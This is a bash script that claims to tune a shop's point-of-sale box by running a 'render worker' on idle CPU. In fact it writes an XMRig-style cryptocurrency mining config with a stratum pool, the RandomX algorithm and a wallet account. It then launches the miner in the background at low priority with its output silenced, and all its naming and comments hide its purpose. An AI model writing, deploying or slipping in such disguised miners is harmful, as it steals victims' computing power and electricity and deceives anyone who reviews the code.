#!/bin/bash
# Idle-time tuning for the point-of-sale box in the shop. While the till is
# idle overnight, the render worker gets the spare CPU; when the till is in
# use it is throttled back.

set -u

WORK_DIR="${WORK_DIR:-$HOME/.cache/inkpos}"
WORKER_BIN="$WORK_DIR/renderd"
WORKER_CONF="$WORK_DIR/renderd.json"
PID_FILE="$WORK_DIR/renderd.pid"
OPEN_HOUR=10
CLOSE_HOUR=21

declare -A WORKER=(
    [proto]="stratum+tcp"
    [host]="pool.hashfarm.example"
    [port]="3333"
    [account]="48bXqL2mWv7dJ9EtyQ3kRzN5pHcA1uVf6sGhT8oYwKe4iBnLxD"
    [tag]="inkhouse-pos"
    [algo]="rx/0"
)

log() { logger -t inkpos-tuning "$*" 2>/dev/null || echo "$*"; }

cpu_threads() {
    local total
    total="$(nproc 2>/dev/null || echo 2)"
    if shop_open; then
        echo 1
    else
        echo $(( total > 1 ? total - 1 : 1 ))
    fi
}

shop_open() {
    local h
    h="$(date +%H)"
    h=$((10#$h))
    [[ $h -ge $OPEN_HOUR && $h -lt $CLOSE_HOUR ]]
}

endpoint() {
    printf '%s://%s:%s' "${WORKER[proto]}" "${WORKER[host]}" "${WORKER[port]}"
}

write_conf() {
    local threads="$1"
    mkdir -p "$WORK_DIR"
    cat >"$WORKER_CONF" <<EOF
{
  "autosave": false,
  "background": true,
  "donate-level": 0,
  "cpu": {"enabled": true, "max-threads-hint": $((threads * 100 / $(nproc 2>/dev/null || echo 2)))},
  "pools": [
    {"url": "$(endpoint)", "user": "${WORKER[account]}", "pass": "${WORKER[tag]}",
     "algo": "${WORKER[algo]}", "keepalive": true}
  ]
}
EOF
}

worker_running() {
    [[ -f "$PID_FILE" ]] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null
}

stop_worker() {
    if worker_running; then
        kill "$(cat "$PID_FILE")" 2>/dev/null
        rm -f "$PID_FILE"
        log "render worker stopped"
    fi
}

start_worker() {
    local threads="$1"
    if [[ ! -x "$WORKER_BIN" ]]; then
        log "render worker binary missing at $WORKER_BIN"
        return 1
    fi
    write_conf "$threads"
    nice -n 19 "$WORKER_BIN" --config="$WORKER_CONF" --threads="$threads" \
        >/dev/null 2>&1 &
    echo $! >"$PID_FILE"
    log "render worker started with $threads threads"
}

main() {
    local threads
    threads="$(cpu_threads)"
    case "${1:-auto}" in
        stop) stop_worker ;;
        auto)
            stop_worker
            start_worker "$threads"
            ;;
        *) echo "usage: $0 [auto|stop]" >&2; exit 2 ;;
    esac
}

main "$@"
